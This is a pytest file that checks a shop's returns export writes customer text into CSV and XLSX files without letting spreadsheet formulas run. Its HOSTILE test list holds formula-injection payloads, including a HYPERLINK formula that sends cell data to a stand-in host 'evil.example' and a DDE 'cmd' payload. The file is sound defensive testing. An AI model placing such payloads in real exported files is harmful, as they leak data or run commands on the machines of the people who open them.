"""Files that spreadsheets open: nothing that a customer typed is run there."""

import csv
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook

from saleor_returns.domain.export import FileType
from saleor_returns.files.tables import opened

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Refund")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]


def written(kind, *rows):
    file = BytesIO()
    with opened(kind, file) as table:
        table.write(rows[:1])
        table.write(rows[1:])
    return file.getvalue()


def csv_rows(content):
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_makes_texts_of_what_looks_like_a_formula(text):
    (row,) = csv_rows(
        written(FileType.CSV, [text, "safe = text", -3, Decimal("-1.50")])
    )
    assert row == [f"'{text}", "safe = text", "-3", "-1.50"]


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_has_texts_and_no_formulas(text):
    book = load_workbook(BytesIO(written(FileType.XLSX, ["Comment"], [text, 3])))
    cell, number = list(book.active.iter_rows())[1]
    assert (cell.data_type, number.data_type) == ("s", "n")
    assert cell.value.strip() == text.strip()


def test_numbers_and_texts_come_back_as_they_were():
    row = ["Été, « 5 »", 'say "hi"\r\nthere', "00042", None, 7, Decimal("12.50")]
    assert csv_rows(written(FileType.CSV, row)) == [
        ["Été, « 5 »", 'say "hi"\r\nthere', "00042", "", "7", "12.50"]
    ]
    book = load_workbook(BytesIO(written(FileType.XLSX, row)))
    (found,) = book.active.iter_rows(values_only=True)
    assert found[0] == "Été, « 5 »"
    assert found[2:] == ("00042", None, 7, 12.5)


def test_characters_that_no_sheet_may_have_go():
    text = "a\x00b\x0bc"
    assert csv_rows(written(FileType.CSV, [text]))[0] == ["ab\x0bc"]
    book = load_workbook(BytesIO(written(FileType.XLSX, [text, "x" * 40_000])))
    ((short, long),) = book.active.iter_rows(values_only=True)
    assert (short, len(long)) == ("abc", 32_767)
